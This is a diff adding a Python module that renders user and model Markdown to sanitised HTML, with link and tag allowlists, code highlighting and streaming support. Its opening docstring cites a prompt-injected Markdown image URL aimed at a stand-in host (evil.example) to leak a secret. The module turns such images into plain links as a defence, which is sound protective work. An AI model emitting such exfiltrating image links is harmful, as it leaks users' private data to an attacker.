@@ -1,0 +1,381 @@
+"""Markdown (from users and from the model) to safe HTML.
+
+Two layers, so that a mistake in one is caught by the other:
+
+1. markdown-it-py with raw HTML off: ``<script>`` in the source comes out as text,
+   and its link validator already refuses ``javascript:``/``vbscript:``/``data:``.
+2. nh3 with a small allowlist: whatever the renderer (or Pygments) emitted, only
+   known tags, ``class`` and a few attributes, and http/https/mailto links survive.
+
+Images never load: a prompt-injected ``![](https://evil.example/?q=<secret>)``
+would leak data the moment a browser fetched it, so images become plain links
+the reader may choose to follow.
+
+While a reply streams, :class:`StreamingMarkdown` renders each finished top-level
+block once and re-renders only the unfinished tail per frame.
+"""
+
+import functools
+import re
+from typing import NamedTuple
+
+import nh3
+from markdown_it import MarkdownIt
+from markdown_it.common.utils import escapeHtml, unescapeAll
+from markdown_it.renderer import RendererHTML
+from markdown_it.token import Token
+from markdown_it.utils import EnvType, OptionsDict
+from pygments import highlight
+from pygments.formatters import HtmlFormatter
+from pygments.lexer import Lexer
+from pygments.lexers import get_lexer_by_name
+from pygments.util import ClassNotFound
+
+__all__ = [
+    "StreamFrame",
+    "StreamingMarkdown",
+    "pygments_css",
+    "render_markdown",
+    "split_stable",
+]
+
+# Pygments lexers are regex machines; past this size a code block is shown
+# unhighlighted rather than risk a slow frame.
+MAX_HIGHLIGHT_CHARS = 100_000
+
+LIGHT_STYLE = "default"
+DARK_STYLE = "github-dark"
+
+_LANGUAGE_CLASS_RE = re.compile(r"[A-Za-z0-9_+#.-]{1,40}")
+_ALIGN_STYLE_RE = re.compile(r"text-align:(left|center|right)")
+_SAFE_IMAGE_SCHEMES = ("http://", "https://")
+
+_ALLOWED_TAGS = {
+    "a",
+    "blockquote",
+    "br",
+    "button",
+    "code",
+    "div",
+    "em",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "hr",
+    "li",
+    "ol",
+    "p",
+    "pre",
+    "s",
+    "span",
+    "strong",
+    "table",
+    "tbody",
+    "td",
+    "th",
+    "thead",
+    "tr",
+    "ul",
+}
+_ALLOWED_ATTRIBUTES = {
+    "a": {"href", "title", "class"},
+    "button": {"class", "data-copy"},
+    "code": {"class"},
+    "div": {"class"},
+    "ol": {"start"},
+    "pre": {"class"},
+    "span": {"class", "title"},
+    "td": {"class"},
+    "th": {"class"},
+}
+
+
+def _build_markdown() -> MarkdownIt:
+    md = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
+    md.add_render_rule("fence", _render_fence)
+    md.add_render_rule("code_block", _render_code_block)
+    md.add_render_rule("image", _render_image)
+    md.add_render_rule("th_open", _render_table_cell_open)
+    md.add_render_rule("td_open", _render_table_cell_open)
+    return md
+
+
+# --- renderer rules -------------------------------------------------------------
+
+
+def _render_fence(
+    self: RendererHTML,
+    tokens: list[Token],
+    idx: int,
+    options: OptionsDict,
+    env: EnvType,
+) -> str:
+    token = tokens[idx]
+    info = unescapeAll(token.info).strip() if token.info else ""
+    language = info.split(maxsplit=1)[0] if info else ""
+    return _code_block_html(token.content, language)
+
+
+def _render_code_block(
+    self: RendererHTML,
+    tokens: list[Token],
+    idx: int,
+    options: OptionsDict,
+    env: EnvType,
+) -> str:
+    return _code_block_html(tokens[idx].content, "")
+
+
+def _code_block_html(code: str, language: str) -> str:
+    lexer = _lexer_for(language) if len(code) <= MAX_HIGHLIGHT_CHARS else None
+    body = highlight(code, lexer, _FORMATTER) if lexer else escapeHtml(code)
+    # The info string is untrusted: it is shown escaped, and becomes a class only
+    # when it looks like a language name.
+    code_class = "highlight"
+    if _LANGUAGE_CLASS_RE.fullmatch(language):
+        code_class += f" language-{language.lower()}"
+    label = escapeHtml(language[:40]) if language else "text"
+    return (
+        '<div class="codeblock"><div class="codeblock-bar">'
+        f'<span class="codeblock-lang">{label}</span>'
+        '<button type="button" class="copy-button" data-copy>Copy</button>'
+        f'</div><pre><code class="{code_class}">{body}</code></pre></div>\n'
+    )
+
+
+@functools.lru_cache(maxsize=128)
+def _lexer_for(language: str) -> Lexer | None:
+    if not language:
+        return None
+    try:
+        # stripnl=False keeps leading blank lines, so Copy gives back what was shown.
+        return get_lexer_by_name(language.lower(), stripnl=False)
+    except ClassNotFound:
+        return None
+
+
+_FORMATTER = HtmlFormatter(nowrap=True)
+
+
+def _render_image(
+    self: RendererHTML,
+    tokens: list[Token],
+    idx: int,
+    options: OptionsDict,
+    env: EnvType,
+) -> str:
+    token = tokens[idx]
+    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
+    text = f"🖼 {escapeHtml(alt)}"
+    src = str(token.attrGet("src") or "")
+    title = token.attrGet("title")
+    title_attr = f' title="{escapeHtml(str(title))}"' if title else ""
+    # An image inside a link would nest <a> in <a>; keep the outer link.
+    if _inside_link(tokens, idx) or not src.lower().startswith(_SAFE_IMAGE_SCHEMES):
+        return f'<span class="md-image"{title_attr}>{text}</span>'
+    return f'<a class="md-image" href="{escapeHtml(src)}"{title_attr}>{text}</a>'
+
+
+def _inside_link(tokens: list[Token], idx: int) -> bool:
+    depth = 0
+    for token in tokens[:idx]:
+        if token.type == "link_open":
+            depth += 1
+        elif token.type == "link_close":
+            depth -= 1
+    return depth > 0
+
+
+def _render_table_cell_open(
+    self: RendererHTML,
+    tokens: list[Token],
+    idx: int,
+    options: OptionsDict,
+    env: EnvType,
+) -> str:
+    # markdown-it aligns cells with style="text-align:..", which the sanitiser
+    # drops (no style attributes at all); a class carries the alignment instead.
+    token = tokens[idx]
+    match = _ALIGN_STYLE_RE.fullmatch(str(token.attrGet("style") or ""))
+    if match:
+        return f'<{token.tag} class="align-{match[1]}">'
+    return f"<{token.tag}>"
+
+
+_MD = _build_markdown()
+# Finding block boundaries needs the block structure only; skipping inline
+# parsing keeps split_stable() much cheaper than a render.
+_BLOCK_MD = _build_markdown().disable(["inline", "text_join"])
+
+
+# --- rendering ------------------------------------------------------------------
+
+
+def render_markdown(text: str) -> str:
+    """Render Markdown to sanitised HTML; safe to mark safe in a template."""
+    return _sanitise(_MD.render(text))
+
+
+def _sanitise(html: str) -> str:
+    return nh3.clean(
+        html,
+        tags=_ALLOWED_TAGS,
+        clean_content_tags={"script", "style"},
+        attributes=_ALLOWED_ATTRIBUTES,
+        link_rel="noopener noreferrer nofollow",
+        set_tag_attribute_values={
+            "a": {"target": "_blank"},
+            "button": {"type": "button"},
+        },
+        url_schemes={"http", "https", "mailto"},
+        # A relative href would point into this site; model output has no business
+        # linking there.
+        url_relative="deny",
+    )
+
+
+# --- streaming ------------------------------------------------------------------
+
+
+def split_stable(text: str) -> tuple[str, str]:
+    """Split *text* into ``(stable, tail)``, with ``stable + tail == text`` once
+    newlines are normalised to ``\\n``.
+
+    ``stable`` ends just before the start of the last top-level block, at a blank
+    line, once that block's first line is complete. Block boundaries come from
+    markdown-it's own block parser, so blank lines inside fenced code, inside a
+    list (loose items, indented continuations) or inside indented code never
+    split. No text appended later changes how ``stable`` renders, and
+    ``render_markdown(stable) + render_markdown(tail) == render_markdown(text)``,
+    unless the text holds a link reference definition (``[x]: https://...``),
+    which :class:`StreamingMarkdown` handles by rendering in one piece.
+    """
+    return _split_stable(text, {})
+
+
+def _split_stable(text: str, env: EnvType) -> tuple[str, str]:
+    text = _normalise_newlines(text)
+    starts = [
+        token.map[0]
+        for token in _BLOCK_MD.parse(text, env)
+        if token.level == 0 and token.nesting >= 0 and token.map
+    ]
+    if len(starts) < 2:
+        return "", text
+    line_offsets = [0]
+    line_offsets.extend(m.end() for m in re.finditer("\n", text))
+    # Walk back from the last block to one that follows a blank line (the
+    # clearest sign the block before it is closed) and whose first line is
+    # complete: "2" is a paragraph that ends a list, "2." continues it.
+    for line in reversed(starts[1:]):
+        previous = text[line_offsets[line - 1] : line_offsets[line]]
+        if not previous.strip(" \t\n") and line + 1 < len(line_offsets):
+            offset = line_offsets[line]
+            return text[:offset], text[offset:]
+    return "", text
+
+
+def _normalise_newlines(text: str) -> str:
+    # markdown-it counts lines after this same normalisation.
+    return text.replace("\r\n", "\n").replace("\r", "\n")
+
+
+class StreamFrame(NamedTuple):
+    stable_changed: bool
+    stable_html: str
+    tail_html: str
+
+
+class StreamingMarkdown:
+    """Render a growing message without re-rendering what is already final.
+
+    Contract: call :meth:`feed` with the *whole* text so far on every frame. It
+    returns ``(stable_changed, stable_html, tail_html)``; the caller shows
+    ``stable_html + tail_html``, and may keep the stable part in place and swap
+    only the tail when ``stable_changed`` is false. For any text,
+    ``stable_html + tail_html == render_markdown(text)``, so the last frame is
+    the final rendering; no separate full render is needed at completion.
+
+    Each stable block is rendered once while the text only grows. If the text
+    is not an extension of the previous one (an edit, a retry), the cache starts
+    over. Link reference definitions (``[x]: https://...``) apply to the whole
+    document, including blocks already rendered, so once one appears the
+    message is rendered in one piece on every frame (rare in model output).
+    """
+
+    def __init__(self) -> None:
+        self._reset()
+
+    def _reset(self) -> None:
+        self._text = ""
+        self._stable_text = ""
+        self._stable_html = ""
+        self._whole_document = False
+
+    def feed(self, text: str) -> StreamFrame:
+        text = _normalise_newlines(text)
+        previous_html = self._stable_html
+        if not text.startswith(self._text):
+            self._reset()
+        self._text = text
+        env: EnvType = {}
+        if not self._whole_document:
+            new_stable, tail = _split_stable(text[len(self._stable_text) :], env)
+        if self._whole_document or env.get("references"):
+            self._whole_document = True
+            self._stable_text, self._stable_html = "", ""
+            return StreamFrame(previous_html != "", "", self._render(text))
+        if new_stable:
+            self._stable_text += new_stable
+            self._stable_html += self._render(new_stable)
+        return StreamFrame(
+            self._stable_html != previous_html,
+            self._stable_html,
+            self._render(tail),
+        )
+
+    def _render(self, text: str) -> str:
+        return render_markdown(text)
+
+
+# --- stylesheet -----------------------------------------------------------------
+
+
+def pygments_css() -> str:
+    """CSS for highlighted code, following the ``data-theme`` attribute of
+    ``<html>`` ("light" or "dark") and, without one, the system preference.
+
+    Exactly one theme's rules match at a time, so a property that only the light
+    style sets (a bold keyword, a red error border) never leaks into dark.
+    ``static/css/pygments.css`` is this output; regenerate it after changing the
+    styles with ``python -c "from conversations.rendering import pygments_css
+    as c; print(c(), end='')" > static/css/pygments.css``.
+    """
+    return "\n".join(
+        [
+            "/* Generated by conversations.rendering.pygments_css(); do not edit. */",
+            *_style_rules(LIGHT_STYLE, ':root[data-theme="light"] '),
+            "@media not all and (prefers-color-scheme: dark) {",
+            *_style_rules(LIGHT_STYLE, ':root:not([data-theme="dark"]) ', "  "),
+            "}",
+            *_style_rules(DARK_STYLE, ':root[data-theme="dark"] '),
+            "@media (prefers-color-scheme: dark) {",
+            *_style_rules(DARK_STYLE, ':root:not([data-theme="light"]) ', "  "),
+            "}",
+            "",
+        ]
+    )
+
+
+def _style_rules(style: str, scope: str, indent: str = "") -> list[str]:
+    formatter = HtmlFormatter(style=style)
+    background = [
+        rule
+        for rule in formatter.get_background_style_defs(f"{scope}.codeblock")
+        if " .hll " not in rule
+    ]
+    rules = background + formatter.get_token_style_defs(f"{scope}.highlight")
+    return [indent + rule for rule in rules]
